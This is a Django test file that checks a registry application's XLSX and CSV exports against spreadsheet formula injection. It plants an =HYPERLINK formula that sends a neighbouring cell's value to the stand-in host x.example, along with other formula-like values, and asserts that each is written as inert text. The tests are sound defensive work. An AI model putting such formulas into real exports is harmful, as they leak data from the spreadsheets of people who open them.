"""Every export writes a hostile text as data: XLSX string cells, CSV cells prefixed (issue 12)."""

from __future__ import annotations

import csv
import io
from typing import Any

from django.urls import reverse
from openpyxl import load_workbook

from gocua.indicators.tests.factories import setup_catalogue
from gocua.registry.tests.helpers import HEADER, RosterTestCase
from gocua.reports.consolidation import (
    Consolidation,
    WardSubmission,
    consolidate,
    consolidation_xlsx,
)

HOSTILE = '=HYPERLINK("http://x.example/?x="&G2,"Bấm vào")'
ROSTER = (
    HEADER
    + "\n"
    + f'H001,Khu phố 1,"+1 ngõ 2","{HOSTILE.replace(chr(34), 2 * chr(34))}"'
    + (
        ",1980-05-01,Nam,022080000123,,,,,,,,,,,,,\n"
        "H001,Khu phố 1,,@SUM(1+1),1981-05-01,Nam,,,,,,,,,,,,,,\n"
    )
)


class ExportsHoldNoFormulaTestCase(RosterTestCase):
    def assertTextCells(self, data: bytes) -> list[list[Any]]:
        sheet = load_workbook(io.BytesIO(data)).worksheets[0]
        values = []
        for row in sheet.iter_rows():
            for cell in row:
                self.assertNotEqual(cell.data_type, "f", f"{cell.coordinate}: {cell.value}")
                if isinstance(cell.value, str):
                    self.assertEqual(cell.data_type, "s")
            values.append([cell.value for cell in row])
        return values

    def test_the_roster_export_writes_names_as_text(self) -> None:
        result = self.load(ROSTER)
        self.assertEqual(result.errors, [])
        self.login(self.alice)
        url = reverse("registry:export", args=[self.ward.code])
        values = self.assertTextCells(self.client.post(url, {"format": "xlsx"}).content)
        names = [row[3] for row in values[1:]]
        self.assertIn(HOSTILE, names)
        self.assertIn("@SUM(1+1)", names)
        text = self.client.post(url, {"format": "csv"}).content.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text)))
        cells = [cell for row in rows for cell in row]
        self.assertIn("'" + HOSTILE, cells)
        self.assertIn("'@SUM(1+1)", cells)
        self.assertIn("'+1 ngõ 2", cells)
        self.assertFalse([c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))])

    def test_the_indicators_export_writes_unit_names_as_text(self) -> None:
        setup_catalogue()
        self.kp1.name = "=1+2"
        self.kp1.save()
        self.login(self.alice)
        url = reverse("indicators:export", args=[self.ward.code, "xlsx"])
        values = self.assertTextCells(self.client.get(url).content)
        self.assertIn("=1+2", [row[1] for row in values])
        url = reverse("indicators:export", args=[self.ward.code, "csv"])
        text = self.client.get(url).content.decode("utf-8-sig")
        self.assertIn("'=1+2", [row[1] for row in csv.reader(io.StringIO(text)) if len(row) > 1])

    def test_the_consolidation_workbook_writes_ward_names_as_text(self) -> None:
        import datetime as dt

        c: Consolidation = consolidate(
            submissions=[
                WardSubmission("L06700", HOSTILE, None, {}, "draft"),
            ],
            deadline=dt.date(2023, 6, 30),
            codes=[],
        )
        values = self.assertTextCells(consolidation_xlsx(c, title="-Tổng hợp"))
        self.assertEqual(values[0][0], "-Tổng hợp")
        self.assertIn(HOSTILE, [row[0] for row in values])
